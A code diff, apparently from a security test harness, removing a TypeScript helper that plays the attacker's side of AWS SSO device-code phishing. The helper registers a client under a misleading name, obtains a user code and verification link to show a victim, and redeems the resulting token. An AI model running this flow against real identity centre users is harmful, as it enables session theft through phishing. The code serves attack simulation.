@@ -1,4 +1,3 @@
-import { SSOOIDC } from '@aws-sdk/client-sso-oidc';
 import { findChromium, findFirefox } from './browsers/find.ts';
 import { openFirefoxStage } from './firefox-stage.ts';
 import type { CenterOptions, Ground } from './ground.ts';
@@ -89,30 +88,6 @@ async function openInFirefox(center: CenterOptions = {}): Promise<HostileStage> 
       await page.close();
       return text;
     },
-  };
-}
-
-/** Somebody else's device authorization: the attacker's half of device-code phishing. */
-export async function foreignCode({
-  idc,
-}: Ground): Promise<{ userCode: string; url: string; redeem(): Promise<unknown> }> {
-  const oidc = new SSOOIDC({ region: 'us-east-1', endpoint: idc.httpUrl });
-  const { clientId, clientSecret } = await oidc.registerClient({
-    clientName: 'botocore-client-corp',
-    clientType: 'public',
-    scopes: ['sso:account:access'],
-  });
-  const client = { clientId, clientSecret };
-  const device = await oidc.startDeviceAuthorization({ ...client, startUrl: idc.startUrl });
-  return {
-    userCode: device.userCode ?? '',
-    url: device.verificationUriComplete ?? '',
-    redeem: () =>
-      oidc.createToken({
-        ...client,
-        grantType: 'urn:ietf:params:oauth:grant-type:device_code',
-        deviceCode: device.deviceCode,
-      }),
   };
 }
 
